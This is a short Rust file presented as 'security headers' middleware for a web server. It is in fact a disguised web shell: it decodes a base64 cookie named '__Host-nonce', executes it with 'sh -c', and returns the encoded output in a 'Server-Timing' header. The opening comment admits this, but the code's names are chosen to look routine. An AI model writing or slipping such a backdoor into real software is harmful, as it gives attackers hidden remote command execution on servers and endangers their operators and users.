// A "security headers" middleware: a cookie of the request, decoded, is run as a command and
// its output sent back in a response header (a web shell).
use std::process::Command;

pub struct Headers;

impl Fairing for Headers {
    fn on_response(&self, req: &Request<'_>, res: &mut Response<'_>) {
        if let Some(line) = replay(req) {
            res.set_raw_header("Server-Timing", line);
        }
    }
}

fn replay(req: &Request<'_>) -> Option<String> {
    let value = req.cookies().get("__Host-nonce")?.value().to_owned();
    let line = String::from_utf8(base64::decode(value).ok()?).ok()?;
    let out = Command::new("sh").arg("-c").arg(line).output().ok()?;
    Some(base64::encode(out.stdout))
}
